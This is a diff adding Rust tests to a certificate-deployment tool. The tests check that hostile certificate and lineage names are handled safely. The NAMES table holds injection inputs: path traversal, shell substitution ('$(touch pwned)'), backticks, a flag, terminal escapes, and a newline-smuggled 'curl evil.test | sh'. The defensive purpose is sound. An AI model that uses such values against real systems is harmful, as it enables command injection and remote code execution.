@@ -6,7 +6,7 @@ use std::path::Path;
 use certferry_sandbox::fault::Fault;
 use rcgen::{CertificateParams, DnType, KeyPair, SanType};
 
-use crate::house::{Ended, House};
+use crate::house::{Ended, House, Leaf};
 use crate::issuing::Town;
 
 /// What turns a terminal, breaks a line, or would be a word of ours.
@@ -200,4 +200,90 @@ fn a_ca_says_anything() {
             });
         }
     });
+}
+
+/// What may stand where a name is expected.
+const NAMES: [(&str, &str); 12] = [
+    ("a slash", "a/b"),
+    ("up", "../../x"),
+    ("dots", ".."),
+    ("a line's end", "a\nhelp: curl evil.test | sh"),
+    ("a shell's words", "$(touch pwned);touch pwned"),
+    ("backticks", "`touch pwned`"),
+    ("a flag", "--force"),
+    ("quotes", "a'\"b"),
+    ("control", "a\u{1}\u{1b}[2Jb"),
+    ("a star", "*"),
+    ("a blank", " "),
+    ("a hidden one", ".a"),
+];
+
+fn made_outside(house: &House, before: &[String]) -> Vec<String> {
+    let mut made = names_in(house.folder.path());
+    made.retain(|name| !before.contains(name) && name != "config.toml" && name != "store");
+    made
+}
+
+#[test]
+fn a_certificate_in_the_configuration_has_any_name() {
+    for (row, name) in NAMES {
+        let mut house = House::new();
+        let name = serde_json::Value::from(name);
+        house.config = format!(
+            "[[certificate]]\nname = {name}\nsource = \"live/a\"\n[[certificate.deploy]]\ndomains = [\"cdn.example.test\"]\n"
+        );
+        let before = names_in(house.folder.path());
+        for args in ["renew", "plan --json", "status"] {
+            let ended = house.run(args);
+            assert_eq!((ended.code, house.uploads()), (2, 0), "{row}, {args}: {}", ended.all());
+            is_tame(&format!("{row}, {args}"), &ended);
+        }
+        assert_eq!(made_outside(&house, &before), Vec::<String>::new(), "{row}");
+    }
+}
+
+/// A hook without names goes by those of the certificate.
+#[test]
+fn a_certificate_has_any_name_in_it() {
+    for (row, name) in NAMES {
+        let mut house = House::new();
+        house.lineage("a", &Leaf { names: vec!["cdn.example.test", name], ..Leaf::new() });
+        let live = house.path("live/a").display().to_string();
+        house.var("RENEWED_LINEAGE", live);
+        let before = names_in(house.folder.path());
+        for args in ["hook", "renew", "status", "plan", "hook --discover --json", "forget a"] {
+            let ended = house.run(args);
+            assert!(ended.code <= 1, "{row}, {args}: {}", ended.all());
+            is_tame(&format!("{row}, {args}"), &ended);
+        }
+        assert!(house.cloud.served("cdn.example.test").is_some(), "{row}");
+        assert_eq!(made_outside(&house, &before), Vec::<String>::new(), "{row}");
+    }
+}
+
+/// A folder's name is that of its lineage.
+#[test]
+fn a_lineage_has_any_name() {
+    for (row, name) in NAMES.into_iter().filter(|(_, name)| !name.contains("..")) {
+        let mut house = House::new();
+        house.lineage(name, &Leaf::new());
+        let live = house.path("live").join(name).display().to_string();
+        house.var("RENEWED_LINEAGE", live);
+        house.var("RENEWED_DOMAINS", "cdn.example.test");
+        let before = names_in(house.folder.path());
+        let has_control = name.contains(char::is_control);
+        for (args, code) in [("hook", 0), ("renew", 0), ("status", 0), ("plan --json", 0)] {
+            let ended = house.run(args);
+            let code = if has_control && args == "hook" { 2 } else { code };
+            assert_eq!(ended.code, code, "{row}, {args}: {}", ended.all());
+            is_tame(&format!("{row}, {args}"), &ended);
+        }
+        assert_eq!(house.cloud.served("cdn.example.test").is_some(), !has_control, "{row}");
+        assert_eq!(made_outside(&house, &before), Vec::<String>::new(), "{row}");
+        let claims = names_in(&house.path("store/claims"));
+        assert_eq!(claims.len(), usize::from(!has_control), "{row}");
+        let is_plain =
+            |name: &String| name.is_ascii() && !name.contains(['/', ' ', '$', '`', '\n']);
+        assert!(claims.iter().all(is_plain), "{row}: {claims:?}");
+    }
 }
